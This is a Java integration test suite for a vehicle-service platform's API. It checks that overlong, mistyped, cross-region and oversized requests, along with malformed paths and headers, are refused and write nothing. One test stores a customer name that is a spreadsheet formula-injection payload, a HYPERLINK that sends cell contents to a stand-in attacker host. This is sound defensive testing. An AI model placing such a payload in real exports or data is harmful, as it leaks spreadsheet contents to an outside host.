package com.drivecare.platform;

import static org.assertj.core.api.Assertions.assertThat;

import com.drivecare.DrivecareTest;
import com.drivecare.TestData;
import com.drivecare.customer.Channel;
import com.drivecare.people.Groups;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * What an attacker sends to every write endpoint, over real HTTP: overlong fields, overflowing
 * numbers, wrong types, numbers for enums, unknown enum names, dates that are not dates, writes into
 * another region, oversized imports, and requests the container itself refuses. Each is a 4xx
 * {@code application/problem+json} that names the field, and the table it would have written to
 * has as many rows as before.
 */
@DrivecareTest
class HostileInputTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final HttpClient HTTP = HttpClient.newHttpClient();
  private static final String ADMIN = "test-admin";

  @LocalServerPort int port;
  @Autowired TestData testData;
  @Autowired JdbcClient jdbc;

  /** Users and data the requests refer to; one set for the whole class. */
  static Fixture fixture;

  record Fixture(String staff, String coordinator, long customer, long otherRegionsCustomer) {}

  @BeforeEach
  void setUp() {
    if (fixture == null) {
      String staff = testData.staff(TestData.unique("owner"), Groups.CASE_OWNERS, TestData.FR, null);
      String coordinator = testData.staff(TestData.unique("coordinator"), Groups.RECALL_COORDINATORS, null, null);
      fixture = new Fixture(staff, coordinator, testData.customer().create().id(),
          testData.customer().inRegion(TestData.NA, "America/Los_Angeles").create().id());
    }
  }

  /** One hostile request: who sends what where, the answer expected, the field it names, the table it must not touch. */
  record Hostile(String name, Function<Fixture, Request> request, int status, String field, String table) {
    @Override
    public String toString() {
      return name;
    }
  }

  record Request(String method, String path, String user, String contentType, byte[] body, Map<String, String> headers) {}

  static Stream<Arguments> hostileRequests() {
    return Stream.of(
        // customers
        refused("customer name over 200 characters", f -> post(f.staff(), "/api/customers",
            customer(Map.of("name", "n".repeat(201)))), 400, "name", "customer"),
        refused("customer address over 500 characters", f -> post(f.staff(), "/api/customers",
            customer(Map.of("address", "a".repeat(501)))), 400, "address", "customer"),
        refused("preferredChannel as a number", f -> post(f.staff(), "/api/customers",
            customer(Map.of("preferredChannel", 1))), 400, "preferredChannel", "customer"),
        refused("preferredChannel as its index in a string", f -> post(f.staff(), "/api/customers",
            customer(Map.of("preferredChannel", "1"))), 400, "preferredChannel", "customer"),
        refused("unknown preferredChannel", f -> post(f.staff(), "/api/customers",
            customer(Map.of("preferredChannel", "PIGEON"))), 400, "preferredChannel", "customer"),
        refused("customer name as a number", f -> post(f.staff(), "/api/customers",
            customer(Map.of("name", 42))), 400, "name", "customer"),
        refused("doNotCall as a string", f -> post(f.staff(), "/api/customers",
            customer(Map.of("doNotCall", "yes"))), 400, "doNotCall", "customer"),
        refused("customer in another region", f -> post(f.staff(), "/api/customers",
            customer(Map.of("region", TestData.NA, "timeZone", "America/Los_Angeles"))), 403, "region", "customer"),
        // vehicles
        refused("modelYear overflowing an integer", f -> post(f.staff(), "/api/vehicles",
            vehicle(f.customer(), Map.of("modelYear", 99999999999L))), 400, "modelYear", "vehicle"),
        refused("modelYear with a fraction", f -> post(f.staff(), "/api/vehicles",
            vehicle(f.customer(), Map.of("modelYear", 2025.5))), 400, "modelYear", "vehicle"),
        refused("modelYear as a string", f -> post(f.staff(), "/api/vehicles",
            vehicle(f.customer(), Map.of("modelYear", "2025"))), 400, "modelYear", "vehicle"),
        refused("ownerId with a fraction", f -> post(f.staff(), "/api/vehicles",
            vehicle(f.customer(), Map.of("ownerId", 3.5))), 400, "ownerId", "vehicle"),
        refused("vehicle of another region's customer", f -> post(f.staff(), "/api/vehicles",
            vehicle(f.otherRegionsCustomer(), Map.of())), 400, "ownerId", "vehicle"),
        refused("vehicle in another region", f -> post(f.staff(), "/api/vehicles",
            vehicle(f.customer(), Map.of("region", TestData.NA))), 403, "region", "vehicle"),
        refused("listPrice beyond numeric(12,2)", f -> post(f.staff(), "/api/vehicles",
            vehicle(f.customer(), Map.of("listPrice", 1e15))), 400, "listPrice", "vehicle"),
        // reservations
        refused("reservation for another region's customer", f -> post(f.staff(), "/api/reservations",
            reservation(f.otherRegionsCustomer(), Map.of())), 400, "customerId", "reservation"),
        refused("unknown reservation status", f -> post(f.staff(), "/api/reservations",
            reservation(f.customer(), Map.of("status", "ON_HOLD"))), 400, "status", "reservation"),
        refused("reservation number over 32 characters", f -> post(f.staff(), "/api/reservations",
            reservation(f.customer(), Map.of("number", "R".repeat(33)))), 400, "number", "reservation"),
        refused("deposit overflowing", f -> post(f.staff(), "/api/reservations",
            reservation(f.customer(), Map.of("deposit", new BigDecimal("1e20")))), 400, "deposit", "reservation"),
        // access tokens and links
        refused("token purpose over 100 characters", f -> post(f.staff(),
            "/api/customers/" + f.customer() + "/access-tokens", Map.of("purpose", "p".repeat(101))),
            400, "purpose", "customer_access_token"),
        refused("token validity as a number", f -> post(f.staff(),
            "/api/customers/" + f.customer() + "/access-tokens", Map.of("validity", 30)),
            400, "validity", "customer_access_token"),
        refused("Idempotency-Key over 200 characters", f -> new Request("POST",
            "/api/customers/" + f.customer() + "/access-link", f.staff(), null, null,
            Map.of("Idempotency-Key", "k".repeat(201))), 400, "Idempotency-Key", "outbox"),
        // recall campaigns
        refused("every campaign text at its maximum", f -> post(f.coordinator(), "/api/recall-campaigns",
            campaign(Map.of("title", "t".repeat(200), "component", "c".repeat(200),
                "defectDescription", "d".repeat(4000), "safetyRisk", "r".repeat(2000), "remedy", "m".repeat(2000)))),
            400, "defectDescription", "recall_campaign"),
        refused("remedyHours with a fraction", f -> post(f.coordinator(), "/api/recall-campaigns",
            campaign(Map.of("remedyHours", 2.5))), 400, "remedyHours", "recall_campaign"),
        refused("remedy option as a number", f -> post(f.coordinator(), "/api/recall-campaigns",
            campaign(Map.of("remedyOptions", List.of(0)))), 400, "remedyOptions[0]", "recall_campaign"),
        refused("parts expected as a date-time", f -> post(f.coordinator(), "/api/recall-campaigns",
            campaign(Map.of("parts", Map.of("availableNow", false, "expected", "2030-01-01T10:00:00")))),
            400, "parts.expected", "recall_campaign"),
        // service centres
        refused("service centre id over 20 characters", f -> put(ADMIN, "/api/service-centers/" + "C".repeat(21),
            center(Map.of())), 400, "id", "service_center"),
        refused("service centre without a name", f -> put(ADMIN, "/api/service-centers/" + TestData.unique("C"),
            center(Map.of("name", ""))), 400, "name", "service_center"),
        refused("service centre name over 200 characters", f -> put(ADMIN,
            "/api/service-centers/" + TestData.unique("C"), center(Map.of("name", "n".repeat(201)))),
            400, "name", "service_center"),
        refused("service centre slots overflowing", f -> put(ADMIN, "/api/service-centers/" + TestData.unique("C"),
            center(Map.of("dailySlots", 99999999999L))), 400, "dailySlots", "service_center"),
        // service cases
        refused("service case kind as a number", f -> post(f.staff(), "/api/service-cases",
            Map.of("vin", TestData.europeanVin(), "kind", 0, "description", "Engine light")), 400, "kind", "service_case"),
        refused("service case description over 2000 characters", f -> post(f.staff(), "/api/service-cases",
            Map.of("vin", TestData.europeanVin(), "kind", "SERVICE", "description", "d".repeat(2001))),
            400, "description", "service_case"),
        // dates that are not dates
        refused("print batch of 2026-13-45", f -> new Request("GET", "/api/outbox/print-batches/2026-13-45", f.staff(),
            null, null, Map.of()), 400, "date", null),
        refused("parts delayed to a date-time", f -> post(f.coordinator(), "/api/recall-campaigns/NONE/parts-delayed",
            Map.of("expected", "2030-01-01T10:00:00")), 400, "expected", null),
        // imports
        refused("customer import over the row limit", f -> csv(f.staff(), "/api/customers/import",
            customerRows(10_001)), 413, null, "customer"),
        refused("customer import over the byte limit", f -> csv(f.staff(), "/api/customers/import",
            ("name\n" + "x".repeat(5 * 1024 * 1024)).getBytes(StandardCharsets.UTF_8)), 413, null, "customer"),
        refused("import with an unknown column", f -> csv(f.staff(), "/api/vehicles/import",
            "vin,colour\nX,red\n".getBytes(StandardCharsets.UTF_8)), 400, "header", "vehicle"),
        // what the container refuses
        refused("unknown path", f -> new Request("GET", "/api/nothing-here", f.staff(), null, null, Map.of()),
            404, null, null),
        refused("method not allowed", f -> new Request("DELETE", "/api/customers", f.staff(), null, null, Map.of()),
            405, null, null),
        refused("unsupported media type", f -> new Request("POST", "/api/customers", f.staff(), "application/xml",
            "<customer/>".getBytes(StandardCharsets.UTF_8), Map.of()), 415, null, "customer"),
        refused("encoded slash in the path", f -> new Request("GET", "/api/customers/1%2F2", f.staff(), null, null,
            Map.of()), 400, null, null),
        refused("NUL in the path", f -> new Request("GET", "/api/customers/1%002", f.staff(), null, null, Map.of()),
            400, null, null),
        refused("oversized headers", f -> new Request("GET", "/api/customers/" + f.customer(), f.staff(), null, null,
            Map.of("X-Padding", "p".repeat(20_000))), 400, null, null));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileRequests")
  void isRefusedAsAProblemNamingTheFieldAndWritesNothing(Hostile hostile) {
    long before = count(hostile.table());
    Response response = send(hostile.request().apply(fixture));
    assertThat(response.status()).as(response.body()).isEqualTo(hostile.status());
    assertThat(response.contentType()).startsWith("application/problem+json");
    JsonNode problem = response.json();
    assertThat(problem.get("status").asInt()).isEqualTo(hostile.status());
    assertThat(problem.get("detail").asText()).isNotBlank();
    if (hostile.field() != null) {
      assertThat(problem.get("errors").findValuesAsText("field")).contains(hostile.field());
    }
    assertThat(count(hostile.table())).as("rows of " + hostile.table()).isEqualTo(before);
  }

  @Test
  void formulaPrefixedNamesAreTakenAsData() {
    String name = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click me\")";
    Response created = send(post(fixture.staff(), "/api/customers", customer(Map.of("name", name))));
    assertThat(created.status()).isEqualTo(201);
    assertThat(created.json().get("name").asText()).isEqualTo(name);
  }

  @Test
  void putAgentWithoutItsFieldsKeepsHisRegion() {
    String agent = testData.staff(TestData.unique("lucas"), Groups.CASE_OWNERS, TestData.FR, null);
    Response refused = send(put(ADMIN, "/api/agents/" + agent, Map.of()));
    assertThat(refused.status()).isEqualTo(400);
    assertThat(refused.contentType()).startsWith("application/problem+json");
    assertThat(refused.json().get("errors").findValuesAsText("field")).contains("region");
    assertThat(jdbc.sql("select region from drivecare.agent where user_id = ?").param(agent).query(String.class)
        .single()).isEqualTo(TestData.FR);
    Map<String, Object> national = new HashMap<>();
    national.put("region", null);
    national.put("managerId", null);
    national.put("phone", null);
    Response saved = send(put(ADMIN, "/api/agents/" + agent, national));
    assertThat(saved.status()).isEqualTo(200);
    assertThat(saved.json().has("region")).isFalse();
  }

  @Test
  void excelCsvWithAByteOrderMarkIsImported() {
    String name = TestData.unique("Bom");
    byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    byte[] rows = ("name,email,preferredChannel,language,region\n" + name + ",bom@example.com,EMAIL,fr," + TestData.FR
        + "\n").getBytes(StandardCharsets.UTF_8);
    byte[] body = new byte[bom.length + rows.length];
    System.arraycopy(bom, 0, body, 0, bom.length);
    System.arraycopy(rows, 0, body, bom.length, rows.length);
    Response report = send(csv(fixture.staff(), "/api/customers/import", body));
    assertThat(report.status()).as(report.body()).isEqualTo(200);
    assertThat(report.json().get("accepted").asInt()).isEqualTo(1);
    assertThat(jdbc.sql("select count(*) from drivecare.customer where name = ?").param(name).query(Long.class)
        .single()).isEqualTo(1);
  }

  @Test
  void anOverflowingRowIsReportedAndTheRowsAroundItAreImportedWhole() {
    String before = TestData.europeanVin();
    String overflowing = TestData.europeanVin();
    String after = TestData.europeanVin();
    String csv = "vin,model,modelYear,ownerId\n"
        + before + ",Aurora,2025," + fixture.customer() + "\n"
        + overflowing + ",Aurora,99999999999," + fixture.customer() + "\n"
        + after + ",Aurora,2025.5," + fixture.customer() + "\n";
    Response report = send(csv(fixture.staff(), "/api/vehicles/import", csv.getBytes(StandardCharsets.UTF_8)));
    assertThat(report.status()).as(report.body()).isEqualTo(200);
    assertThat(report.json().get("accepted").asInt()).isEqualTo(1);
    assertThat(report.json().get("rejected").findValuesAsText("line")).containsExactly("3", "4");
    assertThat(report.json().get("rejected").get(0).get("reason").asText()).contains("modelYear");
    assertThat(report.json().get("rejected").get(1).get("reason").asText()).contains("modelYear");
    assertThat(vehicles(before, overflowing, after)).isEqualTo(1);
  }

  @Test
  void aReportListsABoundedNumberOfRejectedLinesWithTheFullCount() {
    StringBuilder csv = new StringBuilder("name,email,preferredChannel,language,region\n");
    for (int i = 0; i < 150; i++) {
      csv.append("Nobody,not-an-email,EMAIL,fr,").append(TestData.FR).append('\n');
    }
    Response report = send(csv(fixture.staff(), "/api/customers/import", csv.toString().getBytes(StandardCharsets.UTF_8)));
    assertThat(report.status()).isEqualTo(200);
    assertThat(report.json().get("rejectedCount").asInt()).isEqualTo(150);
    assertThat(report.json().get("rejected")).hasSize(100);
    assertThat(report.json().get("rejected").get(0).get("line").asInt()).isEqualTo(2);
  }

  @Test
  void aLetterToTheLongestNameAndAddressFitsTheOutbox() {
    long customer = testData.customer().named("N".repeat(200)).address("A".repeat(500)).preferring(Channel.LETTER)
        .create().id();
    long before = count("outbox");
    Response sent = send(new Request("POST", "/api/customers/" + customer + "/access-link", fixture.staff(), null,
        null, Map.of()));
    assertThat(sent.status()).as(sent.body()).isEqualTo(202);
    assertThat(count("outbox")).isEqualTo(before + 1);
  }

  // --- requests

  private static Hostile hostile(String name, Function<Fixture, Request> request, int status, String field,
      String table) {
    return new Hostile(name, request, status, field, table);
  }

  private static Arguments refused(String name, Function<Fixture, Request> request, int status, String field,
      String table) {
    return Arguments.of(hostile(name, request, status, field, table));
  }

  private static Request post(String user, String path, Object json) {
    return new Request("POST", path, user, "application/json", json(json), Map.of());
  }

  private static Request put(String user, String path, Object json) {
    return new Request("PUT", path, user, "application/json", json(json), Map.of());
  }

  private static Request csv(String user, String path, byte[] body) {
    return new Request("POST", path, user, "text/csv", body, Map.of());
  }

  private static byte[] json(Object value) {
    try {
      return JSON.writeValueAsBytes(value);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static Map<String, Object> customer(Map<String, Object> changes) {
    Map<String, Object> json = new LinkedHashMap<>(Map.of("name", "Hostile Input", "email", "hostile@example.com",
        "preferredChannel", "EMAIL", "language", "fr", "region", TestData.FR));
    json.putAll(changes);
    return json;
  }

  private static Map<String, Object> vehicle(long owner, Map<String, Object> changes) {
    Map<String, Object> json = new LinkedHashMap<>(Map.of("vin", TestData.europeanVin(), "model", "Aurora",
        "modelYear", 2025, "ownerId", owner));
    json.putAll(changes);
    return json;
  }

  private static Map<String, Object> reservation(long customer, Map<String, Object> changes) {
    Map<String, Object> json = new LinkedHashMap<>(Map.of("customerId", customer, "model", "Aurora GT",
        "deposit", 2500));
    json.putAll(changes);
    return json;
  }

  private static Map<String, Object> campaign(Map<String, Object> changes) {
    Map<String, Object> json = new LinkedHashMap<>(Map.of("id", ("26V-" + TestData.unique("").substring(1, 7)).toUpperCase(),
        "title", "Rear camera", "component", "Camera", "defectDescription", "The image may stay blank.",
        "safetyRisk", "Reduced rear visibility.", "remedy", "Update the software.", "remedyOptions", List.of("DEALER"),
        "remedyHours", 1, "parts", Map.of("availableNow", true)));
    json.putAll(changes);
    return json;
  }

  private static Map<String, Object> center(Map<String, Object> changes) {
    Map<String, Object> json = new LinkedHashMap<>(Map.of("name", "Atelier", "region", TestData.FR,
        "dailySlots", 4, "mobileUnits", 1));
    json.putAll(changes);
    return json;
  }

  private static byte[] customerRows(int rows) {
    StringBuilder csv = new StringBuilder("name,email,preferredChannel,language,region\n");
    for (int i = 0; i < rows; i++) {
      csv.append("Row ").append(i).append(",row").append(i).append("@example.com,EMAIL,fr,").append(TestData.FR)
          .append('\n');
    }
    return csv.toString().getBytes(StandardCharsets.UTF_8);
  }

  // --- HTTP and the database

  record Response(int status, String contentType, String body) {
    JsonNode json() {
      try {
        return JSON.readTree(body);
      } catch (IOException e) {
        throw new IllegalStateException("Not JSON (" + status + "): " + body, e);
      }
    }
  }

  private Response send(Request request) {
    String password = ADMIN.equals(request.user()) ? "test-admin-secret" : TestData.password(request.user());
    HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create("http://localhost:" + port + request.path()))
        .header("Authorization", "Basic " + Base64.getEncoder()
            .encodeToString((request.user() + ":" + password).getBytes(StandardCharsets.UTF_8)));
    if (request.contentType() != null) {
      builder.header("Content-Type", request.contentType());
    }
    request.headers().forEach(builder::header);
    builder.method(request.method(), request.body() == null ? HttpRequest.BodyPublishers.noBody()
        : HttpRequest.BodyPublishers.ofByteArray(request.body()));
    try {
      HttpResponse<String> response = HTTP.send(builder.build(), HttpResponse.BodyHandlers.ofString());
      return new Response(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
          response.body());
    } catch (IOException e) {
      throw new IllegalStateException(e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  private long count(String table) {
    return table == null ? 0 : jdbc.sql("select count(*) from drivecare." + table).query(Long.class).single();
  }

  private long vehicles(String... vins) {
    return jdbc.sql("select count(*) from drivecare.vehicle where vin in (?, ?, ?)").params((Object[]) vins)
        .query(Long.class).single();
  }
}
